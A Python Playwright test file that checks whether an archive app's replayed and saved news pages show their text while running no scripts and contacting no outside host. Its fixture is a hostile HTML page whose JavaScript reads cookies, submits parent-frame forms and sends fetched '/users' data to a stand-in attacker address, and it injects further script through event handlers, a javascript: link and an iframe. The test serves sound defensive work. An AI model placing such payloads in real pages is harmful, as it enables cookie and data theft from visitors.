"""Archived pages in a real browser: replayed and saved pages are shown, and a hostile one can do nothing."""

import socket
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from spiders.article import Article
from store.archive.warc_files import RawResponse, WarcArchive
from store.articles.versions import Fetched, record_version
from store.runs.runs import record_raw, start_run
from store.schema.enums import Role
from tests.browser.conftest import Served, served
from tests.support.review_samples import NOW, article
from tests.support.store_samples import raw

pytestmark = pytest.mark.slow

OTHER = article("kaztag", "0", title="t", text="t")
WORDS = "Судят Тауасарова."
ATTACK = """
document.title = 'attacked'; document.body.append('attacked');
alert(document.cookie);
for (const one of [parent, top]) try { one.document.title = 'attacked'; one.document.forms[0].submit() } catch {}
fetch('/users').then((answer) => answer.text()).then((text) => fetch('STRANGER/?' + text));
navigator.sendBeacon('STRANGER/beacon'); location = 'STRANGER/moved'; open('STRANGER/opened');
"""
PAGE = """<!doctype html><html lang="ru"><head><meta charset="utf-8"><title>Суд</title><base href="STRANGER/base/">
<meta http-equiv="refresh" content="0; url=STRANGER/refresh">
<link rel="preconnect" href="STRANGER"><link rel="dns-prefetch" href="STRANGER">
<link rel="stylesheet" href="STRANGER/style.css">
<style>@import "STRANGER/import.css"; body { background: url(STRANGER/background.png) }</style>
<script>ATTACK</script><script src="STRANGER/script.js"></script></head>
<body><h1>Суд</h1><p id="words">WORDS</p>
<a id="next" href="STRANGER/next">Дальше</a> <a id="top" target="_top" href="/top">Вверх</a>
<form action="STRANGER/form"><button>Отправить</button></form>
<object data="STRANGER/object"></object><a id="script" href="javascript:ATTACK">Скрипт</a>
<img src="STRANGER/picture.png" onerror="ATTACK" alt=""><input autofocus onfocus="ATTACK">
<iframe srcdoc="<script>ATTACK</script>"></iframe></body></html>"""


def test_a_replayed_page_shows_its_text_and_can_do_nothing(browser: Browser, tmp_path: Path) -> None:
    with served(browser, tmp_path, articles=[OTHER]) as desk, listening() as stranger:
        archived(desk, tmp_path, hostile_page(stranger.address))
        page = desk.window(Role.ADMIN)
        page.goto("/articles/2")
        page.get_by_role("link", name="Replay").click()
        frame = page.frame_locator("iframe.replay")
        expect(frame.locator("#words")).to_have_text(WORDS)
        assert_nothing_happened(page, stranger)
        frame.locator("#script").click()
        frame.locator("#top").click()
        frame.get_by_role("button").click()
        frame.locator("#next").click()
        page.wait_for_timeout(300)
        assert page.url.endswith("/articles/2/versions/1/replay")
        assert_nothing_happened(page, stranger)
        opened = page.context.new_page()
        opened.goto(page.locator("iframe.replay").get_attribute("src") or "")
        expect(opened.locator("#words")).to_have_text(WORDS)
        opened.wait_for_timeout(300)
        assert "attacked" not in opened.title() + opened.inner_text("body")
        assert_nothing_happened(page, stranger)
        opened.close()
        forget_refusals(desk)


def test_a_saved_page_shows_its_text_and_can_do_nothing(browser: Browser, tmp_path: Path) -> None:
    with served(browser, tmp_path, articles=[OTHER]) as desk, listening() as stranger:
        archived(desk, tmp_path, hostile_page(stranger.address))
        page = desk.window(Role.READER)
        page.goto("/articles/2")
        page.get_by_role("link", name="Saved page").click()
        expect(page.locator("#words")).to_have_text(WORDS)
        assert_nothing_happened(page, stranger)
        forget_refusals(desk)


def hostile_page(address: str) -> bytes:
    attack = " ".join(ATTACK.split())
    return PAGE.replace("ATTACK", attack).replace("WORDS", WORDS).replace("STRANGER", address).encode()


def archived(desk: Served, folder: Path, body: bytes) -> None:
    """Store article 2 with its archived response."""
    response: RawResponse = raw(body, url="https://kaztag.kz/ru/news/1", requested_url="https://kaztag.kz/ru/news/1")
    found: Article = article("kaztag", "1", title="Суд", text=WORDS)
    with desk.desk.database.session() as session:
        run = start_run(session, NOW)
        archive = WarcArchive(folder / "archive", run)
        number = record_raw(session, run, archive.write(response), response)
        archive.close()
        record_version(session, Fetched(article=found, raw_id=number, now=NOW), run_id=run)


@dataclass(frozen=True)
class Stranger:
    """A host that isn't the desk."""

    listener: socket.socket

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.listener.getsockname()[1]}"

    def was_called(self) -> bool:
        try:
            self.listener.accept()[0].close()
        except BlockingIOError:
            return False
        return True


@contextmanager
def listening() -> Iterator[Stranger]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield Stranger(listener)


def assert_nothing_happened(page: Page, stranger: Stranger) -> None:
    assert not stranger.was_called()
    assert "attacked" not in page.title() + page.inner_text("body")


def forget_refusals(desk: Served) -> None:
    """Accept that the browser says which scripts and requests it refused."""
    desk.complaints.clear()
    desk.strangers.clear()
